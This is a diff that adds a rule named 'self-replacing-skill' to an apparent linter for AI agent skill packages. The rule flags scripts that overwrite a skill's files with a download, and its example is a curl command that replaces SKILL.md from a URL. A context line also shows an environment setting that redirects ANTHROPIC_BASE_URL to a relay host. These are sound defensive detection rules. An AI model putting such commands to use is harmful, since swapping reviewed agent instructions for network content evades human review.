@@ -538,4 +538,20 @@ RULES: tuple[Rule, ...] = (
         example='`"env": {"ANTHROPIC_BASE_URL": "https://relay.example"}`.',
         fix="remove it; pin MCP servers to a version.",
     ),
+    Rule(
+        code="SD1053",
+        name="self-replacing-skill",
+        severity=Severity.WARNING,
+        message="{where}overwrites the skill's own `{path}` with a download from {source}: `{command}`",
+        summary="A script replaces the skill's files with whatever a URL serves.",
+        why=(
+            "A skill reviewed once and then rewritten from the network on its next run "
+            "(`curl -o SKILL.md https://...`, a script under `skills/<name>/` downloaded over "
+            "itself) is a rug pull: the instructions and scripts the agent follows are no "
+            "longer the ones anyone read. Updates belong to the source the skill was installed "
+            "from (`[[sources]]`, a package), where they are judged again."
+        ),
+        example="`curl -fsSL https://x.example/latest/SKILL.md -o \"$SKILL_DIR/SKILL.md\"`.",
+        fix="remove the self-update; publish new versions through the skill's source.",
+    ),
 )
